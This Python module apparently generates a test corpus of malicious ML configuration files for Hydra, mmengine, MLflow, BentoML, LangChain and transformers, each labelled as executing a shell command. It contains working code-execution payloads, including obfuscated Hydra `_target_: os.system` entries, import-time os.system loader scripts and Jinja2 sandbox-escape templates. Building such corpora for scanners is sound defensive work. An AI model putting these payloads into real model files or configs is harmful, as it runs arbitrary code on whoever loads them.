"""Configurations whose real loader runs the payload; the loaders come with `constraints/corpus/configuration.in`.

Those of `formats_config` have no such loader on this Python (3.11):

- Rasa 3.6.21 asks for Python below 3.11; its `class_from_module_path` imported `evil_module` when it was installed
  against its own word.
- AllenNLP 2.10.1 asks for torch below 1.13, which has no build for 3.11; its `Registrable.by_name` imported
  `evil_reader` when it was installed without its requirements.
- fairseq 0.12.2, Detectron2 and Ultralytics are not installed.
- LangChain refuses names outside its own packages in `lc` constructors, in 0.0.300 as in 1.x: such a file is one that
  was made for a program that allows more. Jinja prompts ran until 0.0.312; later ones render in a sandbox.
- A callback of spaCy needs a package beside it. The msgpack of spaCy (`srsly`) is no way in: its copy of
  msgpack-numpy has no arrays of objects, and so no pickles; msgpack-numpy itself has them (`flax/numpy-objects`).
"""

from __future__ import annotations

import json

from .sample import EXECUTES, Kit, Maker, Sample


def samples() -> list[Sample]:
    """All of this module."""
    return [*_hydra(), *_modules(), *_bentoml(), *_prompts(), *_generation()]


def _sample(path: str, technique: str, loader: str, make: Maker, calls: tuple[str, ...], **options: object) -> Sample:
    return Sample(f"configuration-run/{path}", technique, EXECUTES, make, calls=calls, loader=loader, **options)  # type: ignore[arg-type]


def _yaml(text: str) -> Maker:
    return lambda kit: text.replace("SHELL", kit.shell).encode()


def _script(kit: Kit) -> bytes:
    return f"import os\nos.system({kit.shell!r})\n".encode()


def _hydra() -> list[Sample]:
    shell, name = ("os.system",), "hydra"
    return [
        _sample("hydra/config.yaml", "hydra.utils.instantiate of a shell", name,
                _yaml("m:\n  _target_: os.system\n  command: SHELL\n"), shell, reference="CVE-2025-23304"),
        _sample("hydra-json/config.json", "exec in JSON, with positional arguments", name,
                lambda k: json.dumps({"m": {"_target_": "builtins.exec", "_args_": [k.code]}}).encode(), ("builtins.exec",),
                reference="CVE-2026-22584"),
        _sample("hydra-interpolated/config.yaml", "the name is put together", name,
                _yaml("a: os\nm:\n  _target_: ${a}.system\n  command: SHELL\n"), ("${a}.system",)),
        _sample("hydra-alias/config.yaml", "key and value through anchors", name,
                _yaml("a: &x os.system\nm: &m\n  _target_: *x\n  command: SHELL\n"), shell),
        _sample("hydra-escaped/config.yaml", "the key is written with an escape", name,
                _yaml('m:\n  "_tar\\x67et_": os.system\n  command: SHELL\n'), shell),
        _sample("hydra-list/config.yaml", "a target deep in lists", name,
                _yaml("a:\n- - b:\n    - {_target_: os.system, command: SHELL}\n"), shell),
        _sample("hydra-partial/config.yaml", "a partial of a shell that another target calls", name,
                _yaml("m:\n  _target_: builtins.list\n  _args_:\n  - _target_: builtins.map\n    _args_:\n"
                      "    - {_target_: os.system, _partial_: true}\n    - [SHELL]\n"), ("os.system", "builtins.map")),
        _sample("hydra-method/config.yaml", "Hydra's own function that imports", name,
                _yaml("m:\n  _target_: builtins.list\n  _args_:\n  - _target_: builtins.map\n    _args_:\n"
                      "    - {_target_: hydra.utils.get_method, path: os.system}\n    - [SHELL]\n"), ("hydra.utils.get_method",)),
    ]  # fmt: skip


def _modules() -> list[Sample]:
    return [
        _sample("lightning/config.yaml", "class_path of jsonargparse", "jsonargparse",
                _yaml("callback:\n  class_path: lightning_notes.Callback\n"), ("lightning_notes.Callback",),
                extra={"lightning_notes.py": _script}),
        _sample("mlflow/MLmodel", "an MLflow flavour with a loader of its own", "mlflow",
                _yaml("flavors:\n  python_function:\n    loader_module: notes_loader\n    code: code\n    env: {}\n"),
                ("notes_loader",), extra={"code/notes_loader.py": _script}),
        _sample("mlflow-code/MLmodel", "an MLflow model from code", "mlflow",
                _yaml("flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: notes.py\n"
                      "    env: {}\n"), ("notes.py",), extra={"notes.py": _script}),
        _sample("mmengine/config.json", "modules to import", "mmengine",
                _yaml('{"custom_imports": {"imports": ["mm_notes"]}}'), ("mm_notes",), extra={"mm_notes.py": _script}),
        _sample("mmengine-python/config.py", "a Python configuration", "mmengine",
                lambda k: f"model = dict(type='A')\nx = __import__('os').system({k.shell!r})\n".encode(), ("os.system",)),
        _sample("mmengine-imports/config.py", "modules to import, in a Python configuration", "mmengine",
                _yaml("custom_imports = dict(imports=['mm_notes'], allow_failed_imports=False)\n"), ("mm_notes",),
                extra={"mm_notes.py": _script}),
        _sample("mmengine-base/config.yaml", "YAML whose base is Python", "mmengine", _yaml("_base_: ./base.py\n"),
                ("base.py",), extra={"base.py": lambda k: f"x = __import__('os').system({k.shell!r})\n".encode()}),
        _sample("mmengine-type/config.yaml", "a type that the registry imports and calls", "mmengine-build",
                _yaml("type: os.system\ncommand: SHELL\n_delete_: true\n"), ("os.system",)),
    ]  # fmt: skip


_SERVICE = """import os
import bentoml

os.system({shell!r})


@bentoml.service
class Notes:
    @bentoml.api
    def answer(self) -> str:
        return "x"
"""
_BENTO_MODEL = """name: notes
version: v1
module: notes_loader
labels: {}
options: {}
metadata: {}
context:
  framework_name: notes
  framework_versions: {}
  bentoml_version: 1.4.0
  python_version: '3.11'
signatures: {}
api_version: v1
creation_time: '2026-01-01T00:00:00+00:00'
"""


def _bentoml() -> list[Sample]:
    def service(kit: Kit) -> bytes:
        return _SERVICE.format(shell=kit.shell).encode()

    return [
        _sample("bentoml/bentofile.yaml", "a BentoML service", "bentoml", _yaml("service: 'notes:Notes'\n"), ("notes",),
                extra={"notes.py": service}),
        _sample("bentoml-model/model.yaml", "a BentoML model with a loader of its own", "bentoml-model",
                _yaml(_BENTO_MODEL), ("notes_loader",),
                extra={"notes_loader.py": lambda k: _script(k) + b"def load_model(model):\n    return model\n"}),
    ]  # fmt: skip


_WAY_OUT = "{{ cycler.__init__.__globals__.os.system(SHELL) }}"
_SUBCLASSES = (
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').system(SHELL) }}{% endif %}{% endfor %}"
)


def _prompts() -> list[Sample]:
    def prompt(template: str, **more: object) -> Maker:
        base = {"_type": "prompt", "input_variables": [], "template_format": "jinja2"}
        return lambda kit: json.dumps({**base, "template": template.replace("SHELL", repr(kit.shell)), **more}).encode()

    few = {"_type": "few_shot", "input_variables": [], "examples": [{"a": "b"}], "template_format": "jinja2",
           "example_prompt": {"_type": "prompt", "input_variables": ["a"], "template": "{a}"}}  # fmt: skip
    return [
        _sample("langchain/prompt.json", "a prompt that is a Jinja template", "langchain", prompt(_WAY_OUT), ("__globals__",),
                reference="CVE-2023-36281"),
        _sample("langchain-subclasses/prompt.json", "the same by way of all classes", "langchain", prompt(_SUBCLASSES),
                ("__subclasses__",), reference="CVE-2023-36281"),
        _sample("langchain-yaml/prompt.yaml", "the same in YAML, which is JSON, too", "langchain", prompt(_WAY_OUT), ("__globals__",)),
        _sample("langchain-yaml-block/prompt.yaml", "the same in a block of YAML", "langchain",
                lambda k: ("_type: prompt\ninput_variables: []\ntemplate_format: jinja2\ntemplate: |-\n  "
                           + _WAY_OUT.replace("SHELL", repr(k.shell)) + "\n").encode(), ("__globals__",)),
        _sample("langchain-file/prompt.json", "the template in a file beside it", "langchain-here",
                lambda _: json.dumps({"_type": "prompt", "input_variables": [], "template_format": "jinja2",
                                      "template_path": "template.txt"}).encode(), ("__globals__",),
                extra={"template.txt": lambda k: _WAY_OUT.replace("SHELL", repr(k.shell)).encode()}),
        _sample("langchain-escaped/prompt.json", "underscores and braces as escapes of JSON", "langchain",
                lambda k: prompt(_WAY_OUT)(k).replace(b"_", b"\\u005f").replace(b"\\u005ftype", b"_type").replace(b"template\\u005fformat", b"template_format")
                .replace(b"input\\u005fvariables", b"input_variables").replace(b"{{", b"\\u007b\\u007b"), ("__globals__",)),
        _sample("langchain-few/prompt.json", "the suffix of a prompt with examples", "langchain",
                lambda k: json.dumps({**few, "suffix": _WAY_OUT.replace("SHELL", repr(k.shell))}).encode(), ("__globals__",)),
        _sample("langchain-prefix/prompt.json", "the prefix of one", "langchain",
                lambda k: json.dumps({**few, "suffix": "", "prefix": _WAY_OUT.replace("SHELL", repr(k.shell))}).encode(), ("__globals__",)),
        _sample("langchain-example/prompt.json", "the prompt of an example", "langchain",
                lambda k: json.dumps({**few, "suffix": "", "template_format": "f-string", "example_prompt": {
                    "_type": "prompt", "input_variables": ["a"], "template_format": "jinja2",
                    "template": _WAY_OUT.replace("SHELL", repr(k.shell))}}).encode(), ("__globals__",)),
    ]  # fmt: skip


def _generation() -> list[Sample]:
    return [
        _sample("generate/config.json", "decoding code of the repository, run in place of `generate`", "custom-generate",
                lambda _: json.dumps({"model_type": "gpt2"}).encode(), ("os.system",),
                extra={"custom_generate/generate.py": lambda k: _script(k) + b"def generate(model, **options):\n    return None\n"},
                needs=("transformers",)),
    ]  # fmt: skip
